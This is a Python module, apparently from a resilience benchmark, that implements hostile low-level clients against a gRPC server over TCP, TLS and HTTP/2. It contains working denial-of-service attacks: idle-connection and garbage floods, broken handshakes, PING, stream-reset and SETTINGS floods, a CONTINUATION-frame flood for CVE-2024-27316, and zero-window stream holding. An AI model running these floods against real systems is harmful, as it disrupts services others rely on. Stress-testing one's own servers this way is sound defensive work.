"""Hostile clients below gRPC: TCP, TLS, and frames of HTTP/2 that no library for gRPC would send."""

import os
import random
import selectors
import socket
import ssl
import time
from collections import Counter
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings
import hyperframe.frame
from grpc_health.v1 import health_pb2

from benchmarks.resilience.hostile_calls import MULTIPLY, WATCH, Attack, Target

__all__ = ["SOCKETS", "STRANGERS_SOCKETS", "Http2"]

Statuses = Counter[str]
_AT_ONCE = 300
_SECONDS = 30.0
_GARBAGE = (
    b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
    b"POST / HTTP/1.1\r\nContent-Length: 99999999\r\n\r\n",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(100),
    b"SSH-2.0-x\r\n",
    os.urandom(5_000),
)
_FRAMES = 50


def _tcp(target: Target) -> socket.socket:
    host, _, port = target.address.rpartition(":")
    return socket.create_connection((host, int(port)), _SECONDS, (target.source, 0))


def _context(target: Target, cert: Path | None, key: Path | None) -> ssl.SSLContext:
    context = ssl.create_default_context(cafile=target.ca)
    if cert is not None:
        context.load_cert_chain(cert, key)
    context.set_alpn_protocols(["h2"])
    return context


def _until_closed(connection: socket.socket) -> str:
    """Reads until the other side has had enough."""
    try:
        while connection.recv(1 << 16):
            pass
    except TimeoutError:
        return f"open after {_SECONDS:g} s"
    except (OSError, ssl.SSLError):
        return "connection reset"
    return "connection closed"


def _each(one: Callable[[Target], str]) -> Attack:
    def attack(target: Target, count: int) -> Statuses:
        with ThreadPoolExecutor(32) as pool:
            return Counter(pool.map(lambda _: one(target), range(count)))

    return attack


def _idle(target: Target, count: int) -> Statuses:
    """Connections that never say anything, a few hundred at a time."""
    found: Statuses = Counter()
    for start in range(0, count, _AT_ONCE):
        selector = selectors.DefaultSelector()
        for _ in range(min(_AT_ONCE, count - start)):
            selector.register(_tcp(target), selectors.EVENT_READ)
        until = time.monotonic() + _SECONDS
        while selector.get_map() and time.monotonic() < until:
            for key, _ in selector.select(0.5):
                selector.unregister(key.fileobj)
                assert isinstance(key.fileobj, socket.socket)
                found[_until_closed(key.fileobj)] += 1
                key.fileobj.close()
        for key in list(selector.get_map().values()):
            assert isinstance(key.fileobj, socket.socket)
            key.fileobj.close()
            found[f"open after {_SECONDS:g} s"] += 1
        selector.close()
    return found


def _broken_off(target: Target) -> str:
    """A handshake that ends in the middle of it."""
    outgoing = ssl.MemoryBIO()
    tls = _context(target, target.cert, target.key).wrap_bio(
        ssl.MemoryBIO(), outgoing, server_hostname=target.address.rpartition(":")[0]
    )
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = outgoing.read()
    with _tcp(target) as connection:
        connection.sendall(hello[: random.choice([len(hello), random.randrange(1, len(hello))])])
        if random.random() < 0.5:
            connection.shutdown(socket.SHUT_WR)
            return _until_closed(connection)
    return "left"


def _garbage(target: Target) -> str:
    with _tcp(target) as connection:
        connection.sendall(random.choice(_GARBAGE))
        return _until_closed(connection)


def _garbage_inside(target: Target) -> str:
    """The same inside of TLS, by a client that is let in."""
    with _tcp(target) as plain:
        connection = _handshake(target, plain, target.cert, target.key)
        connection.sendall(random.choice(_GARBAGE))
        return _until_closed(connection)


def _handshake(target: Target, plain: socket.socket, cert: Path | None, key: Path | None) -> ssl.SSLSocket:
    host = target.address.rpartition(":")[0]
    return _context(target, cert, key).wrap_socket(plain, server_hostname=host)


def _refused(cert: Callable[[Target], tuple[Path | None, Path | None]]) -> Attack:
    def one(target: Target) -> str:
        try:
            with _tcp(target) as plain:
                connection = _handshake(target, plain, *cert(target))
                # With TLS 1.3 a client hears of its refusal only when it reads.
                connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
                return _until_closed(connection)
        except (OSError, ssl.SSLError) as error:
            return f"TLS: {getattr(error, 'reason', None) or type(error).__name__}"

    return _each(one)


class Http2:
    """A connection of HTTP/2 over TLS, for frames of one's own choice."""

    def __init__(self, target: Target, window: int = 65_535) -> None:
        self.target = target
        self._plain = _tcp(target)
        self.socket = _handshake(target, self._plain, target.cert, target.key)
        self.state = h2.connection.H2Connection(
            h2.config.H2Configuration(header_encoding="utf-8", validate_outbound_headers=False)
        )
        self.state.local_settings = h2.settings.Settings(
            client=True, initial_values={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window}
        )
        self.state.initiate_connection()
        self.flush()

    def flush(self) -> None:
        """Sends what is waiting."""
        self.socket.sendall(self.state.data_to_send())

    def begin(self, method: str, message: bytes = b"") -> int:
        """Opens a call, and sends its one message if there is one."""
        stream = self.state.get_next_available_stream_id()
        headers = [
            (":method", "POST"),
            (":scheme", "https"),
            (":path", method),
            (":authority", self.target.address),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
            *self.target.metadata(),
        ]
        self.state.send_headers(stream, headers)
        if message:
            self.state.send_data(stream, b"\0" + len(message).to_bytes(4, "big") + message, end_stream=True)
        return stream

    def close(self) -> None:
        """Leaves without a word."""
        self.socket.close()
        self._plain.close()

    def ending(self, seconds: float) -> str:
        """What the other side does within some time."""
        self.socket.settimeout(seconds)
        resets = 0
        try:
            while data := self.socket.recv(1 << 16):
                for event in self.state.receive_data(data):
                    if isinstance(event, h2.events.ConnectionTerminated):
                        return f"GOAWAY {h2.errors.ErrorCodes(event.error_code or 0).name}"
                    if isinstance(event, h2.events.StreamReset):
                        resets += 1
        except TimeoutError:
            return "reset" if resets else "kept"
        except (OSError, ssl.SSLError, h2.exceptions.ProtocolError):
            return "connection reset"
        return "connection closed"


def _flood(send: Callable[[Http2], None], window: int = 65_535, seconds: float = 1.0) -> Attack:
    """So many frames of a kind, over connections that carry some dozens each."""

    def attack(target: Target, count: int) -> Statuses:
        def one(_: int) -> str:
            connection = Http2(target, window)
            try:
                for _ in range(_FRAMES):
                    send(connection)
                    connection.flush()
                return connection.ending(seconds)
            except (OSError, ssl.SSLError):
                return "connection reset"
            finally:
                connection.close()

        with ThreadPoolExecutor(8) as pool:
            return Counter(pool.map(one, range(-(-count // _FRAMES))))

    return attack


def _ping(connection: Http2) -> None:
    connection.state.ping(os.urandom(8))


def _reset(connection: Http2) -> None:
    stream = connection.begin(MULTIPLY, connection.target.header().SerializeToString())
    connection.state.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)


def _settings(connection: Http2) -> None:
    settings: dict[h2.settings.SettingCodes | int, int] = {
        h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: random.choice([0, 65_535, 2**31 - 1])
    }
    connection.state.update_settings(settings)


def _burst(target: Target, count: int) -> Statuses:
    """As many calls at a time as a connection carries, all of them whole and none of use."""
    found: Statuses = Counter()
    for _ in range(-(-count // 100)):
        connection = Http2(target)
        try:
            for _ in range(100):
                connection.begin(MULTIPLY, connection.target.header().SerializeToString())
            connection.flush()
            found[connection.ending(0.5)] += 1
        except (OSError, ssl.SSLError):
            found["connection reset"] += 1
        finally:
            connection.close()
    return found


def _continuation(target: Target, count: int) -> Statuses:
    """Headers that go on and on (CVE-2024-27316)."""
    found: Statuses = Counter()
    for _ in range(-(-count // _FRAMES)):
        connection = Http2(target)
        try:
            # A literal field "b" of 8,000 bytes, never indexed.
            field = b"\x10\x01b\x7f\xc1\x3d" + b"b" * 8_000
            connection.socket.sendall(hyperframe.frame.HeadersFrame(1, field).serialize())
            for _ in range(_FRAMES):
                connection.socket.sendall(hyperframe.frame.ContinuationFrame(1, field).serialize())
            found[connection.ending(1.0)] += 1
        except (OSError, ssl.SSLError):
            found["connection reset"] += 1
        finally:
            connection.close()
    return found


def _closed_window(target: Target, count: int) -> Statuses:
    """Watches the service's health, and lets no byte of the answer through."""
    request = health_pb2.HealthCheckRequest().SerializeToString() or b"\x0a\x00"
    connections = []
    found: Statuses = Counter()
    for _ in range(-(-count // _FRAMES)):
        connection = Http2(target, window=0)
        connections.append(connection)
        for _ in range(_FRAMES):
            connection.begin(WATCH, request)
        connection.flush()
    time.sleep(3.0)
    for connection in connections:
        found[connection.ending(0.5)] += 1
        connection.close()
    return found


SOCKETS: dict[str, Attack] = {
    "connections without TLS, idle": _idle,
    "handshakes broken off": _each(_broken_off),
    "HTTP/1 and garbage": _each(_garbage),
    "HTTP/1 and garbage inside TLS": _each(_garbage_inside),
    "no client certificate": _refused(lambda target: (None, None)),
    "certificate of another authority": _refused(
        lambda target: (target.foreign / "client.pem", target.foreign / "client-key.pem")
    ),
    "pings": _flood(_ping),
    "streams opened and reset": _flood(_reset),
    "a hundred calls at a time": _burst,
    "settings": _flood(_settings),
    "headers without an end": _continuation,
    "health watches never read": _closed_window,
}
STRANGERS_SOCKETS: dict[str, Attack] = {
    "HTTP/1 and garbage inside TLS": _each(_garbage_inside),
    "pings": _flood(_ping),
    "streams opened and reset": _flood(_reset),
    "a hundred calls at a time": _burst,
    "health watches never read": _closed_window,
}
"""Of one who is not let in, where TLS asks for no certificate."""
